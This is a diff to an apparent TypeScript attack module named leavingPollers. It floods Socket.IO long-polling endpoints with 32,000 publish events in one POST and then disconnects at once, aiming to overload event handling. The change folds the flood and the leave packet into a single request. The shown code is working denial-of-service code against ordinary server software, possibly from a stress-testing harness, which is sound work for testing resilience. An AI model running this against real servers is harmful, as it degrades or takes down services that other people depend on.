@@ -3,8 +3,9 @@ import { type Attack, forSeconds } from './target.ts';
 const AT_A_TIME = 8;
 /** As many as may wait for one client. */
 const EVENTS = 32_000;
-const FLOOD = Array.from({ length: EVENTS }, () => '42["publish","flood/poll","x"]').join('\x1e');
+const EVENT = '42["publish","flood/poll","x"]';
 const LEAVE = '1';
+const FLOOD = [...Array.from({ length: EVENTS }, () => EVENT), LEAVE].join('\x1e');
 
 /** Socket.IO clients by long-polling that send more events at a time than are handled in one turn, and leave at once. */
 export const leavingPollers: Attack = {
@@ -33,9 +34,7 @@ async function visit(url: string, signal: AbortSignal): Promise<boolean> {
     const post = (body: string) => fetch(`${url}&sid=${sid}`, { method: 'POST', body, signal });
     await post('40');
     await (await fetch(`${url}&sid=${sid}`, { signal })).text();
-    const flooding = post(FLOOD);
-    await post(LEAVE);
-    await flooding;
+    await post(FLOOD);
     return true;
   } catch {
     return false; // It was turned away, or the attack is over.
